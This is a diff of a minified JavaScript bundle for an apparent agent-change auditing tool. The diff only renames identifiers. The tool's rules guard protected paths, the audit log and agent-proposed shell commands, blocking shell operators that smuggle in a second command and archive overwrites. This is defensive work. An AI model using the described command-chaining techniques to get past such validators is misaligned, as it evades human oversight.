@@ -1,4 +1,4 @@
-import{createRequire as Et}from"module";var Tu={916:function(t,e){var n;n=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
+import{createRequire as Et}from"module";var xu={916:function(t,e){var n;n=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
 r=function(c,u){for(var l=c.length,d=u.length,B=1<<l-1,f=-1,h=0,m=l,g=l;g--;)s[c.charCodeAt(g)]|=1<<g;for(g=0;g<d;g++){var C=s[u.
 charCodeAt(g)],b=C|h;C|=(C&f)+f^f,h|=~(C|f),f&=C,h&B&&m++,f&B&&m--,h=h<<1|1,f=f<<1|~(b|h),h&=b}for(g=l;g--;)s[c.charCodeAt(
 g)]=0;return m},i=function(c,u){for(var l=u.length,d=c.length,B=[],f=[],h=Math.ceil(l/32),m=Math.ceil(d/32),g=0;g<h;g++)
@@ -320,90 +320,90 @@ ONE_CHAR:Ne,DOTS_SLASH:te,NO_DOT:Me,NO_DOT_SLASH:Ge,NO_DOTS_SLASH:_e,QMARK:Ee,QM
 (${Z}(?:(?!${Y}${X.dot?te:G}).)*?)`,Ce=_.dot?"":Me,U=_.dot?Ee:K;let re=_.bash===!0?pe(_):H;_.capture&&(re=`(${re})`),typeof _.
 noext=="boolean"&&(_.noextglob=_.noext);const R={input:v,index:-1,start:0,dot:_.dot===!0,consumed:"",output:"",prefix:"",
 backtrack:!1,negated:!1,brackets:0,braces:0,parens:0,quotes:0,globstar:!1,tokens:z};v=r.removePrefix(v,R),S=v.length;const Le=[],
-Fe=[],je=[];let M=j,F;const Ye=()=>R.index===S-1,Ie=R.peek=(X=1)=>v[R.index+X],q=R.advance=()=>v[++R.index]||"",rt=()=>v.
+Fe=[],je=[];let M=j,F;const Ye=()=>R.index===S-1,Ie=R.peek=(X=1)=>v[R.index+X],W=R.advance=()=>v[++R.index]||"",rt=()=>v.
 slice(R.index+1),oe=(X="",Pe=0)=>{R.consumed+=X,R.index+=Pe},ae=X=>{R.output+=X.output!=null?X.output:X.value,oe(X.value)},
-we=()=>{let X=1;for(;Ie()==="!"&&(Ie(2)!=="("||Ie(3)==="?");)q(),R.start++,X++;return X%2===0?!1:(R.negated=!0,R.start++,
-!0)},ne=X=>{R[X]++,je.push(X)},Q=X=>{R[X]--,je.pop()},W=X=>{if(M.type==="globstar"){const Pe=R.braces>0&&(X.type==="comm\
+we=()=>{let X=1;for(;Ie()==="!"&&(Ie(2)!=="("||Ie(3)==="?");)W(),R.start++,X++;return X%2===0?!1:(R.negated=!0,R.start++,
+!0)},ne=X=>{R[X]++,je.push(X)},Q=X=>{R[X]--,je.pop()},q=X=>{if(M.type==="globstar"){const Pe=R.braces>0&&(X.type==="comm\
 a"||X.type==="brace"),ee=X.extglob===!0||Le.length&&(X.type==="pipe"||X.type==="paren");X.type!=="slash"&&X.type!=="pare\
 n"&&!Pe&&!ee&&(R.output=R.output.slice(0,-M.output.length),M.type="star",M.value="*",M.output=re,R.output+=M.output)}if(Le.
 length&&X.type!=="paren"&&(Le[Le.length-1].inner+=X.value),(X.value||X.output)&&ae(X),M&&M.type==="text"&&X.type==="text"){
 M.output=(M.output||M.value)+X.value,M.value+=X.value;return}X.prev=M,z.push(X),M=X},he=(X,Pe)=>{const ee={...de[Pe],conditions:1,
 inner:""};ee.prev=M,ee.parens=R.parens,ee.output=R.output,ee.startIndex=R.index,ee.tokensIndex=z.length;const ke=(_.capture?
-"(":"")+ee.open;ne("parens"),W({type:X,value:Pe,output:R.output?"":Ne}),W({type:"paren",extglob:!0,value:q(),output:ke}),
+"(":"")+ee.open;ne("parens"),q({type:X,value:Pe,output:R.output?"":Ne}),q({type:"paren",extglob:!0,value:W(),output:ke}),
 Le.push(ee)},tt=X=>{const Pe=v.slice(X.startIndex,R.index+1),ee=v.slice(X.startIndex+2,R.index),ke=D(ee,_);if((X.type===
 "plus"||X.type==="star")&&ke.risky){const ze=ke.safeOutput?(X.output?"":Ne)+(_.capture?`(${ke.safeOutput})`:ke.safeOutput):
-void 0,Ot=z[X.tokensIndex];Ot.type="text",Ot.value=Pe,Ot.output=ze||r.escapeRegex(Pe);for(let tn=X.tokensIndex+1;tn<z.length;tn++)
-z[tn].value="",z[tn].output="",delete z[tn].suffix;R.output=X.output+Ot.output,R.backtrack=!0,W({type:"paren",extglob:!0,
+void 0,Ot=z[X.tokensIndex];Ot.type="text",Ot.value=Pe,Ot.output=ze||r.escapeRegex(Pe);for(let nn=X.tokensIndex+1;nn<z.length;nn++)
+z[nn].value="",z[nn].output="",delete z[nn].suffix;R.output=X.output+Ot.output,R.backtrack=!0,q({type:"paren",extglob:!0,
 value:F,output:""}),Q("parens");return}let Ue=X.close+(_.capture?")":""),it;if(X.type==="negate"){let ze=re;if(X.inner&&
 X.inner.length>1&&X.inner.includes("/")&&(ze=pe(_)),(ze!==re||Ye()||/^\)+$/.test(rt()))&&(Ue=X.close=`)$))${ze}`),X.inner.
 includes("*")&&(it=rt())&&/^\.[^\\/.]+$/.test(it)){const Ot=O(it,{...I,fastpaths:!1}).output;Ue=X.close=`)${Ot})${ze})`}
-X.prev.type==="bos"&&(R.negatedExtglob=!0)}W({type:"paren",extglob:!0,value:F,output:Ue}),Q("parens")};if(_.fastpaths!==
+X.prev.type==="bos"&&(R.negatedExtglob=!0)}q({type:"paren",extglob:!0,value:F,output:Ue}),Q("parens")};if(_.fastpaths!==
 !1&&!/(^[*!]|[/()[\]{}"])/.test(v)){let X=!1,Pe=v.replace(c,(ee,ke,Ue,it,ze,Ot)=>it==="\\"?(X=!0,ee):it==="?"?ke?ke+it+(ze?
 Ee.repeat(ze.length):""):Ot===0?U+(ze?Ee.repeat(ze.length):""):Ee.repeat(Ue.length):it==="."?G.repeat(Ue.length):it==="*"?
 ke?ke+it+(ze?re:""):re:ke?ee:`\\${ee}`);return X===!0&&(_.unescape===!0?Pe=Pe.replace(/\\/g,""):Pe=Pe.replace(/\\+/g,ee=>ee.
 length%2===0?"\\\\":ee?"\\":"")),Pe===v&&_.contains===!0?(R.output=v,R):(R.output=r.wrapOutput(Pe,R,I),R)}for(;!Ye();){if(F=
-q(),F==="\0")continue;if(F==="\\"){const ee=Ie();if(ee==="/"&&_.bash!==!0||ee==="."||ee===";")continue;if(!ee){F+="\\",W(
+W(),F==="\0")continue;if(F==="\\"){const ee=Ie();if(ee==="/"&&_.bash!==!0||ee==="."||ee===";")continue;if(!ee){F+="\\",q(
 {type:"text",value:F});continue}const ke=/^\\+/.exec(rt());let Ue=0;if(ke&&ke[0].length>2&&(Ue=ke[0].length,R.index+=Ue,
-Ue%2!==0&&(F+="\\")),_.unescape===!0?F=q():F+=q(),R.brackets===0){W({type:"text",value:F});continue}}if(R.brackets>0&&(F!==
+Ue%2!==0&&(F+="\\")),_.unescape===!0?F=W():F+=W(),R.brackets===0){q({type:"text",value:F});continue}}if(R.brackets>0&&(F!==
 "]"||M.value==="["||M.value==="[^")){if(_.posix!==!1&&F===":"){const ee=M.value.slice(1);if(ee.includes("[")&&(M.posix=!0,
 ee.includes(":"))){const ke=M.value.lastIndexOf("["),Ue=M.value.slice(0,ke),it=M.value.slice(ke+2),ze=o[it];if(ze){M.value=
-Ue+ze,R.backtrack=!0,q(),!j.output&&z.indexOf(M)===1&&(j.output=Ne);continue}}}(F==="["&&Ie()!==":"||F==="-"&&Ie()==="]")&&
+Ue+ze,R.backtrack=!0,W(),!j.output&&z.indexOf(M)===1&&(j.output=Ne);continue}}}(F==="["&&Ie()!==":"||F==="-"&&Ie()==="]")&&
 (F=`\\${F}`),F==="]"&&(M.value==="["||M.value==="[^")&&(F=`\\${F}`),_.posix===!0&&F==="!"&&M.value==="["&&(F="^"),M.value+=
 F,ae({value:F});continue}if(R.quotes===1&&F!=='"'){F=r.escapeRegex(F),M.value+=F,ae({value:F});continue}if(F==='"'){R.quotes=
-R.quotes===1?0:1,_.keepQuotes===!0&&W({type:"text",value:F});continue}if(F==="("){ne("parens"),W({type:"paren",value:F});
+R.quotes===1?0:1,_.keepQuotes===!0&&q({type:"text",value:F});continue}if(F==="("){ne("parens"),q({type:"paren",value:F});
 continue}if(F===")"){if(R.parens===0&&_.strictBrackets===!0)throw new SyntaxError(d("opening","("));const ee=Le[Le.length-
-1];if(ee&&R.parens===ee.parens+1){tt(Le.pop());continue}W({type:"paren",value:F,output:R.parens?")":"\\)"}),Q("parens");
+1];if(ee&&R.parens===ee.parens+1){tt(Le.pop());continue}q({type:"paren",value:F,output:R.parens?")":"\\)"}),Q("parens");
 continue}if(F==="["){if(_.nobracket===!0||!rt().includes("]")){if(_.nobracket!==!0&&_.strictBrackets===!0)throw new SyntaxError(
-d("closing","]"));F=`\\${F}`}else ne("brackets");W({type:"bracket",value:F});continue}if(F==="]"){if(_.nobracket===!0||M&&
-M.type==="bracket"&&M.value.length===1){W({type:"text",value:F,output:`\\${F}`});continue}if(R.brackets===0){if(_.strictBrackets===
-!0)throw new SyntaxError(d("opening","["));W({type:"text",value:F,output:`\\${F}`});continue}Q("brackets");const ee=M.value.
+d("closing","]"));F=`\\${F}`}else ne("brackets");q({type:"bracket",value:F});continue}if(F==="]"){if(_.nobracket===!0||M&&
+M.type==="bracket"&&M.value.length===1){q({type:"text",value:F,output:`\\${F}`});continue}if(R.brackets===0){if(_.strictBrackets===
+!0)throw new SyntaxError(d("opening","["));q({type:"text",value:F,output:`\\${F}`});continue}Q("brackets");const ee=M.value.
 slice(1);if(M.posix!==!0&&ee[0]==="^"&&!ee.includes("/")&&(F=`/${F}`),M.value+=F,ae({value:F}),_.literalBrackets===!1||r.
 hasRegexChars(ee))continue;const ke=r.escapeRegex(M.value);if(R.output=R.output.slice(0,-M.value.length),_.literalBrackets===
 !0){R.output+=ke,M.value=ke;continue}M.value=`(${Z}${ke}|${M.value})`,R.output+=M.value;continue}if(F==="{"&&_.nobrace!==
 !0){ne("braces");const ee={type:"brace",value:F,output:"(",outputIndex:R.output.length,tokensIndex:R.tokens.length};Fe.push(
-ee),W(ee);continue}if(F==="}"){const ee=Fe[Fe.length-1];if(_.nobrace===!0||!ee){W({type:"text",value:F,output:F});continue}
+ee),q(ee);continue}if(F==="}"){const ee=Fe[Fe.length-1];if(_.nobrace===!0||!ee){q({type:"text",value:F,output:F});continue}
 let ke=")";if(ee.dots===!0){const Ue=z.slice(),it=[];for(let ze=Ue.length-1;ze>=0&&(z.pop(),Ue[ze].type!=="brace");ze--)
 Ue[ze].type!=="dots"&&it.unshift(Ue[ze].value);ke=l(it,_),R.backtrack=!0}if(ee.comma!==!0&&ee.dots!==!0){const Ue=R.output.
 slice(0,ee.outputIndex),it=R.tokens.slice(ee.tokensIndex);ee.value=ee.output="\\{",F=ke="\\}",R.output=Ue;for(const ze of it)
-R.output+=ze.output||ze.value}W({type:"brace",value:F,output:ke}),Q("braces"),Fe.pop();continue}if(F==="|"){Le.length>0&&
-Le[Le.length-1].conditions++,W({type:"text",value:F});continue}if(F===","){let ee=F;const ke=Fe[Fe.length-1];ke&&je[je.length-
-1]==="braces"&&(ke.comma=!0,ee="|"),W({type:"comma",value:F,output:ee});continue}if(F==="/"){if(M.type==="dot"&&R.index===
-R.start+1){R.start=R.index+1,R.consumed="",R.output="",z.pop(),M=j;continue}W({type:"slash",value:F,output:De});continue}
+R.output+=ze.output||ze.value}q({type:"brace",value:F,output:ke}),Q("braces"),Fe.pop();continue}if(F==="|"){Le.length>0&&
+Le[Le.length-1].conditions++,q({type:"text",value:F});continue}if(F===","){let ee=F;const ke=Fe[Fe.length-1];ke&&je[je.length-
+1]==="braces"&&(ke.comma=!0,ee="|"),q({type:"comma",value:F,output:ee});continue}if(F==="/"){if(M.type==="dot"&&R.index===
+R.start+1){R.start=R.index+1,R.consumed="",R.output="",z.pop(),M=j;continue}q({type:"slash",value:F,output:De});continue}
 if(F==="."){if(R.braces>0&&M.type==="dot"){M.value==="."&&(M.output=G);const ee=Fe[Fe.length-1];M.type="dots",M.output+=
-F,M.value+=F,ee.dots=!0;continue}if(R.braces+R.parens===0&&M.type!=="bos"&&M.type!=="slash"){W({type:"text",value:F,output:G});
-continue}W({type:"dot",value:F,output:G});continue}if(F==="?"){if(!(M&&M.value==="(")&&_.noextglob!==!0&&Ie()==="("&&Ie(
+F,M.value+=F,ee.dots=!0;continue}if(R.braces+R.parens===0&&M.type!=="bos"&&M.type!=="slash"){q({type:"text",value:F,output:G});
+continue}q({type:"dot",value:F,output:G});continue}if(F==="?"){if(!(M&&M.value==="(")&&_.noextglob!==!0&&Ie()==="("&&Ie(
 2)!=="?"){he("qmark",F);continue}if(M&&M.type==="paren"){const ke=Ie();let Ue=F;(M.value==="("&&!/[!=<:]/.test(ke)||ke===
-"<"&&!/<([!=]|\w+>)/.test(rt()))&&(Ue=`\\${F}`),W({type:"text",value:F,output:Ue});continue}if(_.dot!==!0&&(M.type==="sl\
-ash"||M.type==="bos")){W({type:"qmark",value:F,output:K});continue}W({type:"qmark",value:F,output:Ee});continue}if(F==="\
+"<"&&!/<([!=]|\w+>)/.test(rt()))&&(Ue=`\\${F}`),q({type:"text",value:F,output:Ue});continue}if(_.dot!==!0&&(M.type==="sl\
+ash"||M.type==="bos")){q({type:"qmark",value:F,output:K});continue}q({type:"qmark",value:F,output:Ee});continue}if(F==="\
 !"){if(_.noextglob!==!0&&Ie()==="("&&(Ie(2)!=="?"||!/[!=<:]/.test(Ie(3)))){he("negate",F);continue}if(_.nonegate!==!0&&R.
 index===0){we();continue}}if(F==="+"){if(_.noextglob!==!0&&Ie()==="("&&Ie(2)!=="?"){he("plus",F);continue}if(M&&M.value===
-"("||_.regex===!1){W({type:"plus",value:F,output:ce});continue}if(M&&(M.type==="bracket"||M.type==="paren"||M.type==="br\
-ace")||R.parens>0){W({type:"plus",value:F});continue}W({type:"plus",value:ce});continue}if(F==="@"){if(_.noextglob!==!0&&
-Ie()==="("&&Ie(2)!=="?"){W({type:"at",extglob:!0,value:F,output:""});continue}W({type:"text",value:F});continue}if(F!=="\
-*"){(F==="$"||F==="^")&&(F=`\\${F}`);const ee=a.exec(rt());ee&&(F+=ee[0],R.index+=ee[0].length),W({type:"text",value:F});
+"("||_.regex===!1){q({type:"plus",value:F,output:ce});continue}if(M&&(M.type==="bracket"||M.type==="paren"||M.type==="br\
+ace")||R.parens>0){q({type:"plus",value:F});continue}q({type:"plus",value:ce});continue}if(F==="@"){if(_.noextglob!==!0&&
+Ie()==="("&&Ie(2)!=="?"){q({type:"at",extglob:!0,value:F,output:""});continue}q({type:"text",value:F});continue}if(F!=="\
+*"){(F==="$"||F==="^")&&(F=`\\${F}`);const ee=a.exec(rt());ee&&(F+=ee[0],R.index+=ee[0].length),q({type:"text",value:F});
 continue}if(M&&(M.type==="globstar"||M.star===!0)){M.type="star",M.star=!0,M.value+=F,M.output=re,R.backtrack=!0,R.globstar=
 !0,oe(F);continue}let X=rt();if(_.noextglob!==!0&&/^\([^?]/.test(X)){he("star",F);continue}if(M.type==="star"){if(_.noglobstar===
 !0){oe(F);continue}const ee=M.prev,ke=ee.prev,Ue=ee.type==="slash"||ee.type==="bos",it=ke&&(ke.type==="star"||ke.type===
-"globstar");if(_.bash===!0&&(!Ue||X[0]&&X[0]!=="/")){W({type:"star",value:F,output:""});continue}const ze=R.braces>0&&(ee.
+"globstar");if(_.bash===!0&&(!Ue||X[0]&&X[0]!=="/")){q({type:"star",value:F,output:""});continue}const ze=R.braces>0&&(ee.
 type==="comma"||ee.type==="brace"),Ot=Le.length&&(ee.type==="pipe"||ee.type==="paren");if(!Ue&&ee.type!=="paren"&&!ze&&!Ot){
-W({type:"star",value:F,output:""});continue}for(;X.slice(0,3)==="/**";){const Bn=v[R.index+4];if(Bn&&Bn!=="/")break;X=X.
-slice(3),oe("/**",3)}const tn=Ye()||R.parens>0&&X===")".repeat(R.parens)&&!Le.some(Bn=>Bn.type==="negate");if(ee.type===
+q({type:"star",value:F,output:""});continue}for(;X.slice(0,3)==="/**";){const Bn=v[R.index+4];if(Bn&&Bn!=="/")break;X=X.
+slice(3),oe("/**",3)}const nn=Ye()||R.parens>0&&X===")".repeat(R.parens)&&!Le.some(Bn=>Bn.type==="negate");if(ee.type===
 "bos"&&Ye()){M.type="globstar",M.value+=F,M.output=pe(_),R.output=M.output,R.globstar=!0,oe(F);continue}if(ee.type==="sl\
-ash"&&ee.prev.type!=="bos"&&!it&&tn){R.output=R.output.slice(0,-(ee.output+M.output).length),ee.output=`(?:${ee.output}`,
+ash"&&ee.prev.type!=="bos"&&!it&&nn){R.output=R.output.slice(0,-(ee.output+M.output).length),ee.output=`(?:${ee.output}`,
 M.type="globstar",M.output=pe(_)+(_.strictSlashes?")":"|$)"),M.value+=F,R.globstar=!0,R.output+=ee.output+M.output,oe(F);
 continue}if(ee.type==="slash"&&ee.prev.type!=="bos"&&X[0]==="/"){const Bn=X[1]!==void 0?"|$":"";R.output=R.output.slice(
 0,-(ee.output+M.output).length),ee.output=`(?:${ee.output}`,M.type="globstar",M.output=`${pe(_)}${De}|${De}${Bn})`,M.value+=
-F,R.output+=ee.output+M.output,R.globstar=!0,oe(F+q()),W({type:"slash",value:"/",output:""});continue}if(ee.type==="bos"&&
-X[0]==="/"){M.type="globstar",M.value+=F,M.output=`(?:^|${De}|${pe(_)}${De})`,R.output=M.output,R.globstar=!0,oe(F+q()),
-W({type:"slash",value:"/",output:""});continue}R.output=R.output.slice(0,-M.output.length),M.type="globstar",M.output=pe(
+F,R.output+=ee.output+M.output,R.globstar=!0,oe(F+W()),q({type:"slash",value:"/",output:""});continue}if(ee.type==="bos"&&
+X[0]==="/"){M.type="globstar",M.value+=F,M.output=`(?:^|${De}|${pe(_)}${De})`,R.output=M.output,R.globstar=!0,oe(F+W()),
+q({type:"slash",value:"/",output:""});continue}R.output=R.output.slice(0,-M.output.length),M.type="globstar",M.output=pe(
 _),M.value+=F,R.output+=M.output,R.globstar=!0,oe(F);continue}const Pe={type:"star",value:F,output:re};if(_.bash===!0){Pe.
-output=".*?",(M.type==="bos"||M.type==="slash")&&(Pe.output=Ce+Pe.output),W(Pe);continue}if(M&&(M.type==="bracket"||M.type===
-"paren")&&_.regex===!0){Pe.output=F,W(Pe);continue}(R.index===R.start||M.type==="slash"||M.type==="dot")&&(M.type==="dot"?
+output=".*?",(M.type==="bos"||M.type==="slash")&&(Pe.output=Ce+Pe.output),q(Pe);continue}if(M&&(M.type==="bracket"||M.type===
+"paren")&&_.regex===!0){Pe.output=F,q(Pe);continue}(R.index===R.start||M.type==="slash"||M.type==="dot")&&(M.type==="dot"?
 (R.output+=Ge,M.output+=Ge):_.dot===!0?(R.output+=_e,M.output+=_e):(R.output+=Ce,M.output+=Ce),Ie()!=="*"&&(R.output+=Ne,
-M.output+=Ne)),W(Pe)}for(;R.brackets>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing","]"));R.output=r.escapeLast(
+M.output+=Ne)),q(Pe)}for(;R.brackets>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing","]"));R.output=r.escapeLast(
 R.output,"["),Q("brackets")}for(;R.parens>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing",")"));R.output=
 r.escapeLast(R.output,"("),Q("parens")}for(;R.braces>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing","}"));
-R.output=r.escapeLast(R.output,"{"),Q("braces")}if(_.strictSlashes!==!0&&(M.type==="star"||M.type==="bracket")&&W({type:"\
+R.output=r.escapeLast(R.output,"{"),Q("braces")}if(_.strictSlashes!==!0&&(M.type==="star"||M.type==="bracket")&&q({type:"\
 maybe_slash",value:"",output:`${De}?`}),R.backtrack===!0){R.output="";for(const X of R.tokens)R.output+=X.output!=null?X.
 output:X.value,X.suffix&&(R.output+=X.suffix)}return R};O.fastpaths=(v,I)=>{const _={...I},$=typeof _.maxLength=="number"?
 Math.min(i,_.maxLength):i,S=v.length;if(S>$)throw new SyntaxError(`Input length: ${S}, exceeds maximum allowed length: ${$}`);
@@ -448,15 +448,15 @@ m||U===u)===!0&&Le()===B){if(te=re.isGlob=!0,Me=re.isExtglob=!0,Y=!0,U===u&&de==
 break}if(U===r){if(Ce===r&&(Ge=re.isGlobstar=!0),te=re.isGlob=!0,Y=!0,S===!0)continue;break}if(U===m){if(te=re.isGlob=!0,
 Y=!0,S===!0)continue;break}if(U===f){for(;R()!==!0&&(Ie=Fe());){if(Ie===o){Ee=re.backslashes=!0,Fe();continue}if(Ie===b){
 Ne=re.isBracket=!0,te=re.isGlob=!0,Y=!0;break}}if(S===!0)continue;break}if(_.nonegate!==!0&&U===u&&de===G){K=re.negated=
-!0,G++;continue}if(_.noparen!==!0&&U===B){if(te=re.isGlob=!0,S===!0){let q=1;for(;R()!==!0&&(U=Fe());){if(U===o){Ee=re.backslashes=
-!0,Fe();continue}if(U===B){q++;continue}if(U===C&&--q===0){Y=!0;break}}continue}break}if(te===!0){if(Y=!0,S===!0)continue;
+!0,G++;continue}if(_.noparen!==!0&&U===B){if(te=re.isGlob=!0,S===!0){let W=1;for(;R()!==!0&&(U=Fe());){if(U===o){Ee=re.backslashes=
+!0,Fe();continue}if(U===B){W++;continue}if(U===C&&--W===0){Y=!0;break}}continue}break}if(te===!0){if(Y=!0,S===!0)continue;
 break}}_.noext===!0&&(Me=!1,te=!1);let je=le,M="",F="";G>0&&(M=le.slice(0,G),le=le.slice(G),ce-=G),je&&te===!0&&ce>0?(je=
 le.slice(0,ce),F=le.slice(ce)):te===!0?(je="",F=le):je=le,je&&je!==""&&je!=="/"&&je!==le&&y(je.charCodeAt(je.length-1))&&
 (je=je.slice(0,-1)),_.unescape===!0&&(F&&(F=s.removeBackslashes(F)),je&&Ee===!0&&(je=s.removeBackslashes(je)));const Ye={
 prefix:M,input:v,start:G,base:je,glob:F,isBrace:De,isBracket:Ne,isGlob:te,isExtglob:Me,isGlobstar:Ge,negated:K,negatedExtglob:H};
 if(_.tokens===!0&&(Ye.maxDepth=0,y(U)||z.push(re),Ye.tokens=z),_.parts===!0||_.tokens===!0){let Ie;for(let oe=0;oe<j.length;oe++){
 const ae=Ie!==void 0?Ie+1:G,we=j[oe],ne=v.slice(ae,we);_.tokens&&(oe===0&&G!==0?(z[oe].isPrefix=!0,z[oe].value=M):z[oe].
-value=ne,D(z[oe]),Ye.maxDepth+=z[oe].depth),we>=G&&(Z.push(ne),Ie=we)}const q=Ie!==void 0?Ie+1:G,rt=v.slice(q);Z.push(rt),
+value=ne,D(z[oe]),Ye.maxDepth+=z[oe].depth),we>=G&&(Z.push(ne),Ie=we)}const W=Ie!==void 0?Ie+1:G,rt=v.slice(W);Z.push(rt),
 _.tokens&&Ie&&Ie+1<v.length&&(z[z.length-1].value=rt,D(z[z.length-1]),Ye.maxDepth+=z[z.length-1].depth),Ye.slashes=j,Ye.
 parts=Z}return Ye};t.exports=O},59:function(t,e,n){const{REGEX_BACKSLASH:s,REGEX_REMOVE_BACKSLASH:r,REGEX_SPECIAL_CHARS:i,
 REGEX_SPECIAL_CHARS_GLOBAL:o}=n(595);e.isObject=a=>a!==null&&typeof a=="object"&&!Array.isArray(a),e.hasRegexChars=a=>i.
@@ -498,7 +498,7 @@ r findings afterwards, or no fewer, so it is not rewritten.",remedy:"Resolve the
 append-only",message:"The audit log is append-only and is never rewritten.",remedy:"Append a correct event."}),unsureText:()=>({
 id:"file-in-doubt",message:"The content of the file is ambiguous, so nothing in it is rewritten.",remedy:"Fix the errors\
  that the audit reports about the file, and run `gene-gate fix` again."})};function c(u){return{id:u.rule,title:(0,s.Y)(
-u.rule)?.title,...(0,r.q0)(u)}}},56:function(t,e,n){n.d(e,{Y:()=>yy});var s=n(442);function r(p){return w=>({severity:p,
+u.rule)?.title,...(0,r.q0)(u)}}},56:function(t,e,n){n.d(e,{Y:()=>gy});var s=n(442);function r(p){return w=>({severity:p,
 ...w})}const i=r("error"),o=r("warning"),a=r("notice");function c(p,w,A,J){const ye=Object.entries(A).map(([$t,pn])=>[$t,
 {id:$t,layer:p,...J&&{profile:J},harm:pn.severity==="error"?w:"bookkeeping",...pn,message:u(pn.message),remedy:u(pn.remedy)}]);
 return Object.fromEntries(ye)}function u(p){return typeof p!="string"?p:w=>p.replace(/\{(\w+)\}/g,(A,J)=>{const ye=w[J]??
@@ -725,13 +725,13 @@ lib/extra-genes.json":[G()]}},right:{head:{"lib/extra-genes.json":[G()]},policy:
   protected_paths: ['AGENTS.md', 'config/prod/**']
 `,je={"AGENTS.md":`Run the tests.
 `},M={constraints:{max_files:5,forbidden_paths:[".git"]}},F={[j]:[G(M)]},Ye={[j]:[G({...M,summary:"Edited."})]},Ie={[j]:[
-G({constraints:{max_files:100,forbidden_paths:[".git"]}})]},q={outcome:{status:"failed",score:.2}},rt={outcome:{status:"\
+G({constraints:{max_files:100,forbidden_paths:[".git"]}})]},W={outcome:{status:"failed",score:.2}},rt={outcome:{status:"\
 success",score:.9}},oe={base:{"README.md":`# Agent
 `},head:{"README.md":`# Agent
 `,"src/index.js":`work();
 `}},ae={submodule:"1d0c4fe2b6a0d6d9a51b2c4a7f1ed0f5bb1f3b64"};function we(p){const w={max_files:5,forbidden_paths:["src/\
 core"]},A=G({constraints:w,summary:"Edited."});return{base:{[j]:[G({constraints:w})]},head:{[j]:[A],[p]:`work();
-`}}}function ne(p){return p===1?"1 file":`${p} files`}function Q(p){return p===1?"1 line":`${p} lines`}function W({path:p,
+`}}}function ne(p){return p===1?"1 file":`${p} files`}function Q(p){return p===1?"1 line":`${p} lines`}function q({path:p,
 via:w,more:A=0}){const J=w===""?"":`, which resolves to \`${w}\``;return`The change touches \`${p}\`${J}${A===0?"":` and\
  ${A} more ${A===1?"path":"paths"} there`}`}function he({likewise:p,more:w}){return p.length===0?"":`; likewise ${(0,s.p)(
 p)}${w===0?"":` and ${w} more`}`}function tt({gene:p,declared:w}){return w?`the gene \`${p}\``:`genes without \`max_files\
@@ -750,13 +750,13 @@ e same, so they are always forbidden. A policy can forbid more, such as the infr
 "packages/api/node_modules/left-pad/index.js":`work();
 `}},right:{head:{"packages/api/package.json":`{ "dependencies": { "left-pad": "1.3.0" } }
 `}},configure:`blast_radius:
-  forbidden_paths: [infrastructure]`,message:p=>`${W(p)}, but ${p.by} \`${p.entry}\`.`,remedy:"Remove `{path}` from the \
+  forbidden_paths: [infrastructure]`,message:p=>`${q(p)}, but ${p.by} \`${p.entry}\`.`,remedy:"Remove `{path}` from the \
 change. A path of the policy can be allowed on the base branch first."}),"forbidden-path-declared":i({cause:({entry:p})=>`\
 forbidden path ${p}`,harm:"broken",ignorable:!0,title:"Change touches a path that a gene forbids",why:"`constraints.forb\
 idden_paths` lists what a gene must never touch. An entry is a path from the root of the repository and includes everyth\
 ing below it. It is case-sensitive and not a pattern. Both names of a renamed file are checked, and symlinks are followe\
 d. For a gene that exists at the base, its old entries also apply; for a gene that the change only adds, this is a warni\
-ng.",wrong:we("src/core/index.js"),right:we("src/corelib.js"),message:p=>`${W(p)}, but the gene \`${p.gene}\` forbids \`${p.
+ng.",wrong:we("src/core/index.js"),right:we("src/corelib.js"),message:p=>`${q(p)}, but the gene \`${p.gene}\` forbids \`${p.
 entry}\`.`,remedy:"Remove `{path}` from the change, or edit it in a change that does not use the gene `{gene}`."}),"prot\
 ected-path":i({ignorable:"as warning",title:"Change touches a protected file",why:"Some files control everything else: i\
 nstructions for agents, secrets, and workflows. A person must review a change to one of them. A file that only the defau\
@@ -779,7 +779,7 @@ right:{base:je,head:{...je,[j]:[G()]}},configure:`blast_radius:
  did, and eligibility is counted from it. New events are appended to the end, and every existing record stays the same, \
 byte for byte and in order. Blank lines and the end of the last line do not count. An edit in the middle, a removed reco\
 rd, and an addition to the last record all rewrite history. Each line is one JSON object with a `type`; any other line s\
-tops readers, or hides the lines after it.",wrong:{base:Me(q).head,...Me(rt)},right:{base:Me(q).head,...Me(q,{id:"evt_2",
+tops readers, or hides the lines after it.",wrong:{base:Me(W).head,...Me(rt)},right:{base:Me(W).head,...Me(W,{id:"evt_2",
 parent:"evt_1",...rt})},configure:`blast_radius:
   audit_log: append   # or forbidden: the log must not change at all`,message:"The change {how} the audit log `{path}`.",
 remedy:"Restore `{path}` from the base branch, and append each new event to the end as one line of JSON."}),"blast-radiu\
@@ -842,7 +842,7 @@ t.test",ke={command:ee,also:Pe},Ue={archive_extraction_overwrite:"The contents o
 The archive may already exist."},ze=`profile: curated
 mode: dangerous
 allow_dangerous: true`,Ot=`profile: curated
-allowed_roots: [/srv/app]`,tn=`profile: curated
+allowed_roots: [/srv/app]`,nn=`profile: curated
 families:
   - name: make
     sandbox: { forms: { test: {} }, match: [make test], not_match: [make] }`,Bn=`profile: curated
@@ -856,7 +856,7 @@ in one of the registered forms."})}function Tn(p,w,A){return i({title:`Command $
  An operator makes a shell run a second one, insert the output of one, or open files that no operand names. In the opera\
 nds of archives, operators are blocked even inside quotes, which people and tools that pass them on can lose.",wrong:A,right:"\
 tar -tf a.tar",message:({operator:J})=>`The command contains a blocked shell operator (${p}): \`${J}\`.`,remedy:"Write a\
- single command without shell operators."})}const fn={right:"cat notes.md",remedy:"Confirm that this is intended."},IC=c(
+ single command without shell operators."})}const fn={right:"cat notes.md",remedy:"Confirm that this is intended."},SC=c(
 "policy","broken",{no_command:i({title:"Command is missing",why:"The curated validator validates the command of a propos\
 al. Without a command, it has nothing to accept.",wrong:"",right:"cat notes.md",message:"The proposal has no command to \
 validate.",remedy:"Write a command."}),parse_failed:i({title:"Command cannot be parsed",why:"Text that a shell cannot sp\
@@ -881,7 +881,7 @@ s `{family}`, but the command runs `{base}`.",remedy:"Begin the command with `{f
  proposal."}),"constrained_form.tar":Sn("tar -xvf a.tar","tar -xf a.tar -C out",Ue),"constrained_form.unzip":Sn("unzip a\
